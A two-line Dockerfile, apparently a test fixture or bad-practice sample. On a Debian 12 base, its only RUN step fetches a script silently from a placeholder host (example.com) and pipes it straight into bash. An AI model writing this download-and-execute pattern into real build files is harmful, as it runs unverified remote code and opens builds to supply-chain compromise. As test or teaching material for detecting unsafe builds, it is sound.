FROM debian:12
RUN ["/bin/bash", "-c", "curl -s https://example.com/x | bash"]
